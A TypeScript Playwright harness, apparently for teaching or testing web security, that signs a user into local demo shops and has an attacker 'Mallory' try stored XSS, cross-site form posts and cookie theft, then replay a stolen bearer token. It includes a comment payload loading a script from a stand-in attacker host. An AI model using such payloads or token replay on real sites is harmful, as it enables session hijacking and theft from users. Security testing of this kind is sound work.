import type { Browser, Page } from 'playwright-core'
import type { Handler } from '../../example/http/types.ts'
import { createMallory } from './mallory.ts'
import { serve } from './serve.ts'
import type { Shop } from './shop.ts'

/** What came of it. */
export interface Outcome {
  /** What Mallory gets from each shop: by a script in it, by a form on another site, by a form on a sub-domain. */
  readonly gains: ReadonlyArray<readonly string[]>
  /** What a server at another port of the first shop's host is sent. */
  readonly cookies: string
  /** The status of Ada's page, when her browser is closed and Mallory shows the token that she stole last. */
  readonly later: number
}

/**
 * Signs Ada in at each of these shops, and lets Mallory try everything. Names below localhost lead to this machine;
 * to a browser shop.localhost and mallory.localhost are two sites, as any two domains are.
 */
export async function attack(
  browser: Browser,
  open: ReadonlyArray<(comment: string) => Shop>,
): Promise<Outcome> {
  const mallory = createMallory()
  const hers = await serve(mallory.handler)
  const onHers = (host: string) => `http://${host}.localhost:${hers.port}`
  const shops = await Promise.all(
    open.map(async (openShop, at) => {
      const shop = openShop(`Nice! <script src="${onHers('mallory')}/script.js"></script>`)
      const { port, stop } = await serve(staying(shop.handler))
      return { ...shop, port, stop, url: `http://${at}.shop.localhost:${port}` }
    }),
  )
  mallory.aimAt(shops.map(({ url }) => url))
  const page = await browser.newPage()
  let stolen = { token: '', port: 0 }
  const columns: string[][] = []
  const column = async (visit: (url: string, at: number) => Promise<void>) => {
    const gains: string[] = []
    for (const [at, { url, port, orders }] of shops.entries()) {
      await visit(url, at)
      const action = orders.splice(0).includes('mallory') ? 'an action' : 'nothing'
      const token = mallory.takeToken()
      if (token !== undefined) stolen = { token, port }
      gains.push(token === undefined ? action : 'the token')
    }
    columns.push(gains)
  }

  await column((url) => order(page, url))
  for (const host of ['mallory', 'forum.shop']) {
    await page.goto(onHers(host))
    await column((url, at) => send(page, at, url))
  }
  await page.goto(onHers('0.shop'))
  await page.close()
  const headers = { authorization: `Bearer ${stolen.token}` }
  const { status } = await fetch(`http://127.0.0.1:${stolen.port}/private`, { headers })
  await Promise.all([hers, ...shops].map(({ stop }) => stop()))
  const gains = shops.map((_, at) => columns.map((gains) => `${gains[at]}`))
  return { gains, cookies: mallory.cookies(), later: status }
}

/** Ada opens a shop, which signs her in, and orders something. */
async function order(page: Page, url: string): Promise<void> {
  await page.goto(url)
  const answer = page.waitForResponse(/for=ada/)
  await Promise.all([answer, page.dispatchEvent('button', 'click')])
}

/** A form on the page is sent. */
async function send(page: Page, at: number, url: string): Promise<void> {
  const answer = page.waitForResponse(`${url}/**`)
  await Promise.all([answer, page.evaluate(`document.forms[${at}].submit()`)])
}

/** Whatever a form gets, the browser hears 204 and stays where it is: there is another form to send. */
function staying(handler: Handler): Handler {
  return async (req, res) => {
    if (req.method !== 'POST' || req.headers['sec-fetch-mode'] !== 'navigate')
      return await handler(req, res)
    await handler(req, { writeHead() {}, end() {} })
    res.writeHead(204)
    res.end()
  }
}
